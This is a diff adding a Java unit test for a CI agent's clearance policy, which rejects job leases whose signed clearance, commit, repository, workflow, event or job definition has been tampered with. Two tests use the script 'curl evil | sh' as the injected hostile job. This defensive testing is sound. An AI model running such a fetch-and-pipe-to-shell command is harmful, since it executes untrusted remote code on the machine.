@@ -1,0 +1,191 @@
+package dev.holdfast.agent.policy;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
+
+import dev.holdfast.agent.job.Jobs;
+import dev.holdfast.agent.link.ClearedLeases;
+import dev.holdfast.model.approval.Clearance;
+import dev.holdfast.model.definition.Name;
+import dev.holdfast.model.definition.Step;
+import dev.holdfast.model.event.CommitId;
+import dev.holdfast.model.event.Contributor;
+import dev.holdfast.model.event.Event;
+import dev.holdfast.model.trust.Trust;
+import dev.holdfast.model.wire.agent.AgentApi.Cleared;
+import dev.holdfast.model.wire.agent.AgentApi.Lease;
+import dev.holdfast.model.wire.agent.AgentApi.Source;
+import java.io.IOException;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.util.List;
+import java.util.Map;
+import java.util.Optional;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+
+/** What somebody in the database or on the way would change about a lease. */
+class ClearingTest {
+  @TempDir Path data;
+  private Clearing clearing;
+  private final Lease good = ClearedLeases.cleared(lease("make test"));
+
+  private static Lease lease(String script) {
+    return Jobs.lease(
+        Optional.empty(),
+        List.of(
+            new Step.Command(
+                "only",
+                script,
+                Map.of("B", "2", "A", "1"),
+                Optional.empty(),
+                Optional.empty(),
+                Optional.empty())),
+        Optional.empty());
+  }
+
+  @BeforeEach
+  void meet() throws IOException {
+    clearing = Clearing.in(data);
+    clearing.met(Optional.of(ClearedLeases.key()));
+  }
+
+  private void refused(Lease lease, String why) {
+    assertThat(clearing.refusal(good)).as("control").isEmpty();
+    assertThat(clearing.refusal(lease)).hasValueSatisfying(said -> assertThat(said).contains(why));
+  }
+
+  private Lease like(Lease lease) {
+    return ClearedLeases.with(lease, good.cleared().orElseThrow());
+  }
+
+  @Test
+  void aLeaseWithoutAClearanceIsRefused() {
+    refused(lease("make test"), "no clearance");
+  }
+
+  @Test
+  void anotherJobUnderTheClearanceOfThisOneIsRefused() {
+    refused(like(altered(lease("curl evil | sh"))), "not one of the definition's");
+  }
+
+  /** Another script in the same event of the same commit. */
+  private Lease altered(Lease other) {
+    return new Lease(
+        good.attempt(),
+        good.fence(),
+        good.number(),
+        good.run(),
+        good.workflow(),
+        other.job(),
+        good.event(),
+        good.source(),
+        good.sources(),
+        good.outputs());
+  }
+
+  private Lease at(Source source, Event event, Name workflow) {
+    return like(
+        new Lease(
+            good.attempt(),
+            good.fence(),
+            good.number(),
+            good.run(),
+            workflow,
+            good.job(),
+            event,
+            source,
+            good.sources(),
+            good.outputs()));
+  }
+
+  @Test
+  void anotherCommitRepositoryWorkflowOrEventIsRefused() {
+    Source source = good.source();
+    refused(
+        at(
+            new Source(
+                source.repository(),
+                source.name(),
+                source.url(),
+                source.ref(),
+                new CommitId("e".repeat(40))),
+            good.event(),
+            good.workflow()),
+        "commit");
+    refused(
+        at(
+            new Source("repo_2", source.name(), source.url(), source.ref(), source.commit()),
+            good.event(),
+            good.workflow()),
+        "repository");
+    refused(at(source, good.event(), new Name("deploy")), "workflow");
+    Event event = good.event();
+    refused(
+        at(
+            source,
+            new Event(
+                event.delivery(),
+                event.repository(),
+                event.at(),
+                Optional.of(new Contributor("github", "1", "somebody else")),
+                event.happening()),
+            good.workflow()),
+        "event");
+  }
+
+  @Test
+  void aClearanceThatWasChangedOrSignedByAnotherKeyIsRefused() {
+    Clearance clearance = ClearedLeases.clearance(good);
+    refused(ClearedLeases.cleared(good, clearance, ClearedLeases.anotherKey()), "not signed");
+    var raised =
+        new Clearance(
+            clearance.repository(),
+            clearance.event(),
+            clearance.workflow(),
+            clearance.head(),
+            clearance.definition(),
+            clearance.jobs(),
+            Trust.TRUSTED,
+            clearance.by(),
+            clearance.at());
+    refused(
+        ClearedLeases.with(
+            good,
+            new Cleared(
+                new Clearance.Signed(raised, good.cleared().orElseThrow().clearance().signature()),
+                ClearedLeases.definition(good))),
+        "not signed");
+  }
+
+  @Test
+  void aDefinitionThatIsNotTheClearedOneIsRefused() {
+    Lease other = altered(lease("curl evil | sh"));
+    refused(
+        ClearedLeases.with(
+            other,
+            new Cleared(good.cleared().orElseThrow().clearance(), ClearedLeases.definition(other))),
+        "definition");
+  }
+
+  @Test
+  void anotherKeyThanTheOneThatWasMetFirstIsRefusedForEver() throws IOException {
+    assertThatThrownBy(
+            () -> clearing.met(Optional.of(ClearedLeases.text(ClearedLeases.anotherKey()))))
+        .isInstanceOf(IOException.class)
+        .hasMessageContaining("orchestrator.key");
+    assertThatThrownBy(() -> clearing.met(Optional.empty())).hasMessageContaining("no key");
+    Clearing restarted = Clearing.in(data);
+    assertThat(restarted.refusal(good)).as("before it met anybody").isPresent();
+    restarted.met(Optional.of(ClearedLeases.key()));
+    assertThat(restarted.refusal(good)).isEmpty();
+    assertThat(Files.readString(data.resolve("orchestrator.key")).strip())
+        .isEqualTo(ClearedLeases.key());
+  }
+
+  @Test
+  void whoHasNoOrchestratorAsksForNoClearance() {
+    assertThat(Clearing.notAsked().refusal(lease("make test"))).isEmpty();
+  }
+}
